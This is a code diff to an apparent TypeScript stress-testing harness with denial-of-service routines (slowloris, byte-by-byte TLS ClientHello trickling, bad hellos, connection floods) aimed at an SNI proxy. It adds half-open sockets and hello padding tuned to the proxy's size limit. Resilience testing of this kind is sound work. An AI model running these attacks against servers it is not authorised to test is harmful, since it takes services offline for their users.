@@ -54,7 +54,7 @@ export async function slowloris(opts: CommonOptions & { payload: SlowPayload; by
     ledger.attempted++;
     let s: net.Socket;
     try {
-      s = await connectTcp(opts.target, { localAddress: pick() });
+      s = await connectTcp(opts.target, { localAddress: pick(), allowHalfOpen: true });
     } catch (err) {
       ledger.failed(err);
       return;
@@ -89,12 +89,14 @@ export async function slowloris(opts: CommonOptions & { payload: SlowPayload; by
  * A ClientHello trickled: `record` mode cuts the handshake into 1-byte TLS records, each written as
  * its own TCP segment `gapMs` apart (the quadratic re-parse case); `segment` mode sends normal records
  * one byte per segment. `clients` run at once, each starting a new hello when the previous one ended.
- * The hello is the post-quantum size (X25519MLKEM768 share) and names `serverName`.
+ * The hello carries a post-quantum key share (X25519MLKEM768, ~1.5 KB in all), padded to `padTo`
+ * bytes if given (2600: in 1-byte records, just under sni-proxy's 16 KiB ClientHello limit), and names
+ * `serverName`.
  */
-export async function trickleHello(opts: { target: HostPort; sources?: string[]; serverName: string; mode: 'record' | 'segment'; clients: number; gapMs: number; durationMs: number; signal?: AbortSignal }): Promise<AttackResult> {
+export async function trickleHello(opts: { target: HostPort; sources?: string[]; serverName: string; mode: 'record' | 'segment'; clients: number; gapMs: number; durationMs: number; padTo?: number; signal?: AbortSignal }): Promise<AttackResult> {
   const ledger = new ConnLedger();
   const pick = sourcePicker(opts.sources);
-  const hs = clientHelloMessage({ serverName: opts.serverName, postQuantum: true });
+  const hs = clientHelloMessage({ serverName: opts.serverName, postQuantum: true, ...(opts.padTo ? { padTo: opts.padTo } : {}) });
   const wire = opts.mode === 'record' ? toRecords(hs, 1) : [...Buffer.concat(toRecords(hs))].map((b) => Buffer.from([b]));
   const helloTimes: number[] = [];
   let completed = 0;
@@ -104,7 +106,7 @@ export async function trickleHello(opts: { target: HostPort; sources?: string[];
       ledger.attempted++;
       let s: net.Socket;
       try {
-        s = await connectTcp(opts.target, { localAddress: pick() });
+        s = await connectTcp(opts.target, { localAddress: pick(), allowHalfOpen: true });
       } catch (err) {
         ledger.failed(err);
         await sleep(100);
@@ -114,6 +116,7 @@ export async function trickleHello(opts: { target: HostPort; sources?: string[];
       ledger.track(s, t0);
       const answered = new Promise<string>((resolve) => {
         s.once('data', (b: Buffer) => resolve(classifyAnswer(b)));
+        s.once('end', () => resolve('closed'));
         s.once('close', () => resolve('closed'));
       });
       for (const piece of wire) {
@@ -155,7 +158,7 @@ export async function badHellos(opts: CommonOptions & { routedName: string; hold
     ledger.attempted++;
     let s: net.Socket;
     try {
-      s = await connectTcp(opts.target, { localAddress: pick() });
+      s = await connectTcp(opts.target, { localAddress: pick(), allowHalfOpen: true });
     } catch (err) {
       ledger.failed(err);
       return;
@@ -259,7 +262,7 @@ export async function connectFlood(opts: CommonOptions & { header: string; then:
     ledger.attempted++;
     let s: net.Socket;
     try {
-      s = await connectTcp(opts.target, { localAddress: pick() });
+      s = await connectTcp(opts.target, { localAddress: pick(), allowHalfOpen: true });
     } catch (err) {
       ledger.failed(err);
       return;
